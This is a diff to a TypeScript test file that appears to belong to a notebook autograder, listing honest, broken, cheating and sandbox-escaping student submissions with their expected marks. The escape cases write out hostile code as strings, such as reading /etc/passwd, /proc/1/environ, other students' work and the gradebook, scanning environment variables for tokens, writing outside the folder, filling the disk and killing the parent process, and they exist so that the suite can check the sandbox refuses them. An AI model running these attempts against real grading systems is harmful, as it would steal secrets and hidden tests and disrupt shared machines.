@@ -1,75 +1,23 @@
 // Submissions of the sample assignment, honest and hostile, with the marks that they must get.
-import type { Notebook } from "../../notebooks/notebook_file.ts";
+import { sourceOf } from "../../notebooks/notebook_file.ts";
+import { MEMORY } from "./memory.ts";
 import { answered, SAMPLE, sampleNotebook, sampleRelease, SECRET } from "./sample.ts";
+import {
+  ALL,
+  attempts,
+  type Case,
+  cellOf,
+  edit,
+  notebook,
+  put,
+  RIGHT_MEAN,
+  trying,
+  without,
+  WRONG_MEAN,
+  WRONG_SLOPE,
+} from "./submission.ts";
 
-/** Places that a hostile submission tries to reach. */
-export interface Targets {
-  /** The folder of another student's submission. */
-  other: string;
-  /** nbgrader's gradebook, and the notebook with the hidden tests. */
-  gradebook: string;
-  source: string;
-  /** A folder outside. */
-  outside: string;
-  /** A port of this machine where something listens. */
-  port: number;
-}
-
-/** A submission. */
-export interface Case {
-  name: string;
-  /** What is in it, in a few words. */
-  says: string;
-  /** Writes it. */
-  write(folder: string, targets: Targets): Promise<void>;
-  /** Points for slope, mean and step; `undefined`: nothing could be graded. */
-  marks: [slope: number, mean: number, step: number] | undefined;
-  /** What the note must say; nothing: that there is none. */
-  note?: RegExp;
-  /** What no output may contain. */
-  never?: RegExp;
-}
-
-const ALL: [number, number, number] = [40, 30, 30];
-const WRONG_SLOPE = "function slope(x: number): number { return 17; }";
-const WRONG_MEAN = "function meanOf(values: number[]): number { return 17; }";
-const RIGHT_MEAN =
-  "function meanOf(values: number[]): number {\n  return values.reduce((a, b) => a + b, 0) / values.length;\n}";
-
-async function put(folder: string, notebook: Notebook | string, name = SAMPLE): Promise<void> {
-  const text = typeof notebook === "string" ? notebook : JSON.stringify(notebook);
-  await Deno.writeTextFile(`${folder}/${name}.ipynb`, text);
-}
-
-/** Each with a notebook, made by the function. */
-function notebook(
-  name: string,
-  says: string,
-  make: (targets: Targets) => Notebook,
-  marks: Case["marks"],
-  more: Partial<Case> = {},
-): Case {
-  return { name, says, write: (folder, targets) => put(folder, make(targets)), marks, ...more };
-}
-
-function edit(change: (notebook: Notebook) => void, answers: Parameters<typeof answered>[0] = {}): Notebook {
-  const notebook = answered(answers);
-  change(notebook);
-  return notebook;
-}
-
-const cellOf = ({ cells }: Notebook, id: string) => cells.find((cell) => cell.id === id)!;
-const without = (id: string) => (notebook: Notebook) => {
-  notebook.cells = notebook.cells.filter((cell) => cell.id !== id);
-};
-
-/** Each attempt says GOT if it had what it wanted. */
-function attempts(tries: Record<string, string>): string {
-  return Object.entries(tries).map(([name, code]) =>
-    `try {\n  ${code}\n  console.log("GOT ${name}");\n} catch (error) {\n` +
-    `  console.log("refused ${name}: " + (error as Error).name);\n}`
-  ).join("\n");
-}
+export type { Case, Targets } from "./submission.ts";
 
 const HONEST: Case[] = [
   notebook("solutions", "the instructor's own answers", () => sampleNotebook(), ALL),
@@ -142,6 +90,62 @@ const HONEST: Case[] = [
       }),
     ALL,
   ),
+  notebook(
+    "no-names",
+    "saved by a program that drops ids and metadata; the answers are the student's own",
+    () =>
+      edit((n) => {
+        for (const cell of n.cells) {
+          delete cell.id;
+          cell.metadata = {};
+        }
+      }, { slope: "const slope = (x: number) => x + x;" }),
+    ALL,
+    { note: /^the cells have lost their ids and metadata; “slope”, “mean” and “step” were found by/ },
+  ),
+  notebook(
+    "no-names-unlike",
+    "the same, with an answer that looks like nothing that was asked for",
+    () =>
+      edit((n) => {
+        for (const cell of n.cells) {
+          delete cell.id;
+          cell.metadata = {};
+        }
+      }, { mean: "var m = 17\nm" }),
+    [40, 0, 30],
+    { note: /“mean” could not be found in the file.*ask for the file again/ },
+  ),
+  {
+    name: "byte-order-mark",
+    says: "UTF-8 with a byte order mark",
+    write: (folder) => put(folder, "\uFEFF" + JSON.stringify(answered())),
+    marks: ALL,
+  },
+  {
+    name: "utf-16",
+    says: "saved in UTF-16, with Windows line ends in all cells",
+    async write(folder) {
+      const text = JSON.stringify(edit((n) => {
+        for (const cell of n.cells) cell.source = sourceOf(cell).replaceAll("\n", "\r\n");
+      }));
+      const units = Uint16Array.from("\uFEFF" + text, (letter) => letter.charCodeAt(0));
+      await Deno.writeFile(`${folder}/${SAMPLE}.ipynb`, new Uint8Array(units.buffer));
+    },
+    marks: ALL,
+    note: /^the file was saved in UTF-16, and read as that; Windows line ends, nothing else differs$/,
+  },
+  notebook(
+    "exercise-twice",
+    "the same exercise twice, the first attempt wrong",
+    () =>
+      edit((n) => {
+        const { metadata } = cellOf(n, "mean");
+        n.cells.push({ ...cellOf(n, "mean"), id: "copy", metadata: { ...metadata }, source: RIGHT_MEAN });
+      }, { mean: WRONG_MEAN }),
+    [40, 0, 30],
+    { note: /^“mean” is there twice; the first counts$/ },
+  ),
   {
     name: "renamed",
     says: "the notebook has another name",
@@ -205,7 +209,7 @@ const BROKEN: Case[] = [
     says: "a notebook of another course, under the right name",
     write: (folder) => put(folder, { cells: [], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
     marks: [0, 0, 0],
-    note: /was deleted/,
+    note: /^nothing of this assignment is in the file: ask for the right one$/,
   },
 ];
 
@@ -275,7 +279,7 @@ const ENDLESS: Case[] = [
           "while (true) {\n  new Worker(code, { type: 'module' });\n  await new Promise((done) => setTimeout(done, 1));\n}",
       }),
     [40, 0, 30],
-    { note: /cell mean: /, never: /GOT/ },
+    { never: /GOT/, refused: ["program"] },
   ),
 ];
 
@@ -291,7 +295,7 @@ const CHEATS: Case[] = [
         cellOf(n, "nudge").source = "const nudge = () => 17;";
       }, { slope: WRONG_SLOPE }),
     [0, 30, 0],
-    { note: /“nudge” was edited.*“check-slope” was edited.*points of “check-mean”.*marks of “check-step”/ },
+    { note: /“nudge” and “check-slope” were edited.*points of “check-mean”.*marks of “check-step”/ },
   ),
   notebook(
     "replaces-check",
@@ -409,89 +413,66 @@ const CHEATS: Case[] = [
 ];
 
 const ESCAPES: Case[] = [
-  notebook(
+  trying(
     "network",
     "calls out: a page, a port of this machine, a name, a socket of the kernel",
-    ({ port }) =>
-      answered({
-        mean: `${RIGHT_MEAN}\n` + attempts({
-          fetch: 'await fetch("http://example.com");',
-          port: `await Deno.connect({ hostname: "127.0.0.1", port: ${port} });`,
-          name: 'await Deno.resolveDns("example.com", "A");',
-          listen: "Deno.listen({ port: 0 });",
-          node: `await new Promise((done, failed) => import("node:net").then(({ connect }) =>\n` +
-            `    connect(${port}, "127.0.0.1").on("connect", done).on("error", failed)));`,
-          module: 'await import("https://example.com/x.ts");',
-          permission:
-            'if ((await Deno.permissions.request({ name: "net" })).state !== "granted") throw new Error();',
-        }),
-      }),
-    ALL,
-    { never: /GOT/ },
+    ({ port }) => ({
+      fetch: 'await fetch("http://example.com");',
+      port: `await Deno.connect({ hostname: "127.0.0.1", port: ${port} });`,
+      name: 'await Deno.resolveDns("example.com", "A");',
+      listen: "Deno.listen({ port: 0 });",
+      node: `const { connect } = await import("node:net");\n` +
+        `  await new Promise((done, failed) => connect(${port}, "127.0.0.1").on("connect", done).on("error", failed));`,
+      module: 'await import("https://example.com/x.ts");',
+      permission:
+        'if ((await Deno.permissions.request({ name: "net" })).state !== "granted") throw new Error();',
+    }),
   ),
-  notebook(
+  trying(
     "reads",
     "looks for other submissions, the gradebook, hidden tests, secrets of the machine",
-    ({ other, gradebook, source }) =>
-      answered({
-        mean: `${RIGHT_MEAN}\n` + attempts({
-          other: `Deno.readTextFileSync("${other}/${SAMPLE}.ipynb");`,
-          gradebook: `Deno.readFileSync("${gradebook}");`,
-          source: `Deno.readTextFileSync("${source}");`,
-          passwd: 'Deno.readTextFileSync("/etc/passwd");',
-          neighbours: 'const up = [...Deno.readDirSync("..")].map((e) => e.name).join();\n' +
-            "  if (!/ipynb|submitted|student/.test(up)) throw new Error(up);",
-          home: 'Deno.readDirSync("/root").next(); Deno.readDirSync("/home").next();',
-          temporary: 'if ([...Deno.readDirSync("/tmp")].length < 2) throw new Error("empty");',
-          environment:
-            "if (Object.keys(Deno.env.toObject()).some((n) => /JPY|JUPYTER|TOKEN|KEY|USER/.test(n))) {}\n" +
-            '  else throw new Error("clean");',
-          processes:
-            "if ([...Deno.readDirSync('/proc')].filter((e) => /^\\d+$/.test(e.name)).length < 8) throw new Error();",
-        }),
-      }),
-    ALL,
-    { never: /GOT/ },
+    ({ other, gradebook, source }) => ({
+      other: `Deno.readTextFileSync("${other}/${SAMPLE}.ipynb");`,
+      gradebook: `Deno.readFileSync("${gradebook}");`,
+      source: `Deno.readTextFileSync("${source}");`,
+      passwd: 'Deno.readTextFileSync("/etc/passwd");',
+      neighbours: 'const up = [...Deno.readDirSync("..")].map((e) => e.name).join();\n' +
+        "  if (!/ipynb|submitted|student/.test(up)) throw new Error(up);",
+      home: 'Deno.readDirSync("/root").next(); Deno.readDirSync("/home").next();',
+      temporary: 'if ([...Deno.readDirSync("/tmp")].length < 2) throw new Error("empty");',
+      environment:
+        "if (Object.keys(Deno.env.toObject()).some((n) => /JPY|JUPYTER|TOKEN|KEY|USER/.test(n))) {}\n" +
+        '  else throw new Error("clean");',
+      processes:
+        "if ([...Deno.readDirSync('/proc')].filter((e) => /^\\d+$/.test(e.name)).length < 8) throw new Error();",
+    }),
   ),
-  notebook(
+  trying(
     "writes",
     "writes outside of its folder, into the library, over the sockets; fills the disk",
-    ({ outside }) =>
-      answered({
-        mean: `${RIGHT_MEAN}\nDeno.writeTextFileSync("mine.txt", "allowed");\n` + attempts({
-          outside: `Deno.writeTextFileSync("${outside}/written.txt", "x");`,
-          library: 'Deno.writeTextFileSync("/project/lib/mod.ts", "x");',
-          root: 'Deno.writeTextFileSync("/x", "x");',
-          device: 'Deno.writeTextFileSync("/dev/shm/x", "x");',
-          home: 'Deno.mkdirSync("/root/x");',
-          fill: "for (let i = 0; i < 100; i++) Deno.writeFileSync(`f${i}`, new Uint8Array(1e6));",
-        }),
-      }),
-    ALL,
-    { never: /GOT/ },
+    ({ outside }) => ({
+      outside: `Deno.writeTextFileSync("${outside}/written.txt", "x");`,
+      library: 'Deno.writeTextFileSync("/project/lib/mod.ts", "x");',
+      root: 'Deno.writeTextFileSync("/x", "x");',
+      device: 'Deno.writeTextFileSync("/dev/shm/x", "x");',
+      home: 'Deno.mkdirSync("/root/x");',
+      fill: "for (let i = 0; i < 100; i++) Deno.writeFileSync(`f${i}`, new Uint8Array(1e6));",
+    }),
+    { before: `Deno.writeTextFileSync("mine.txt", "allowed");` },
   ),
-  notebook(
-    "native",
-    "loads native code, kills its parent",
-    () =>
-      answered({
-        mean: `${RIGHT_MEAN}\n` + attempts({
-          native: 'Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });',
-          kill: 'Deno.kill(Deno.ppid, "SIGKILL");',
-          node: '(await import("node:process")).default.kill(Deno.ppid, "SIGKILL");',
-          memory: 'Deno.writeFileSync("/proc/self/mem", new Uint8Array(1));',
-          first: 'Deno.readTextFileSync("/proc/1/environ");',
-          worker:
-            "const code = `postMessage((() => { try { new Deno.Command(Deno.execPath(), {}).outputSync();` +\n" +
-            '    ` return "ran"; } catch (e) { return e.name; } })())`;\n' +
-            '  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));\n' +
-            '  const said = await new Promise((done) => new Worker(url, { type: "module" }).onmessage = done) as any;\n' +
-            '  if (said.data !== "ran") throw new Error(said.data);',
-        }),
-      }),
-    ALL,
-    { never: /GOT/ },
-  ),
+  trying("native", "loads native code, kills its parent", () => ({
+    native: 'Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });',
+    kill: 'Deno.kill(Deno.ppid, "SIGKILL");',
+    node: '(await import("node:process")).default.kill(Deno.ppid, "SIGKILL");',
+    memory: 'Deno.writeFileSync("/proc/self/mem", new Uint8Array(1));',
+    first: 'Deno.readTextFileSync("/proc/1/environ");',
+    worker:
+      "const code = `postMessage((() => { try { new Deno.Command(Deno.execPath(), {}).outputSync();` +\n" +
+      '    ` return "ran"; } catch (e) { return e.name; } })())`;\n' +
+      '  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));\n' +
+      '  const said = await new Promise((done) => new Worker(url, { type: "module" }).onmessage = done) as any;\n' +
+      '  if (said.data !== "ran") throw new Error(said.data);',
+  })),
   notebook(
     "spies",
     "waits for the hidden test to run, and prints its text",
@@ -520,12 +501,14 @@ const ESCAPES: Case[] = [
 ];
 
 /** All of them. */
-export const CASES: Case[] = [...HONEST, ...BROKEN, ...ENDLESS, ...CHEATS, ...ESCAPES];
+export const CASES: Case[] = [...HONEST, ...BROKEN, ...ENDLESS, ...CHEATS, ...ESCAPES, ...MEMORY];
 
 const QUICK = new Set([
   ..."solutions release wrong-slope only-hidden warns syntax-error deleted renamed".split(" "),
   ..."no-json gigabyte link loops buffers prints exits edited replaces-check replaces-helper".split(" "),
-  ..."patches-language fakes-result network reads writes native spies".split(" "),
+  ..."patches-language fakes-result network reads writes native spies heap core loaders".split(" "),
+  ..."no-names byte-order-mark utf-16 exercise-twice guesses-words prints-inputs returns-inputs swaps-helpers"
+    .split(" "),
 ]);
 
 /** Those that every change is tested with. */
